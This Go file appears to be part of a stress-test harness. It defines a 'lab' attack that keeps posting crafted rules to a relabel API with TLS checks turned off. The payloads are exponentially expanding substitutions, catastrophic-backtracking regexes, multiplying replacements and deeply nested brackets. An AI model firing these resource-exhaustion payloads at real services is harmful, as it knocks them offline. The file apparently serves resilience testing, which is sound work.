package main

import (
	"bytes"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"time"
)

func init() {
	attacks = append(attacks, attack{
		name:  "lab",
		what:  "small texts for the relabel lab that stand for gigabytes",
		start: func(w *world) (string, error) { return "", nil },
		strike: func(w *world) {
			client := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
			go func() {
				for {
					for _, rules := range labBombs() {
						body, _ := json.Marshal(map[string]any{"rules": rules, "labels": map[string]string{"a": strings.Repeat("x", 20000)}})
						if response, err := client.Post(w.admin+"/api/v1/relabel", "application/json", bytes.NewReader(body)); err == nil {
							_, _ = io.Copy(io.Discard, io.LimitReader(response.Body, 8<<20))
							_ = response.Body.Close()
						}
					}
					select {
					case <-w.done:
						return
					case <-time.After(200 * time.Millisecond):
					}
				}
			}()
		},
	})
}

func labBombs() []string {
	var substitutions strings.Builder
	substitutions.WriteString("a = \"" + strings.Repeat("x", 1000) + "\"\n")
	for c := 'b'; c <= 'i'; c++ {
		fmt.Fprintf(&substitutions, "%c = %s\n", c, strings.Repeat(fmt.Sprintf("${%c}", c-1), 10))
	}
	rule := func(s string) string { return "rules = [" + s + "]" }
	var copies strings.Builder
	for i := range 300 {
		fmt.Fprintf(&copies, "{source_labels=[a],target_label=l%d},", i)
	}
	return []string{
		substitutions.String() + rule("{source_labels=[\"a\"],target_label=\"x\",replacement=${i}}"),
		rule(strings.Repeat("{source_labels=[a],action=keep,regex=\"(?:.{1000}){15}\"},", 500)),
		rule(strings.Repeat("{source_labels=[a],target_label=a,replacement=\"$1$1$1$1\",regex=\"(.*)\"},", 300)),
		rule(copies.String()),
		"rules=" + strings.Repeat("[", 30000),
	}
}
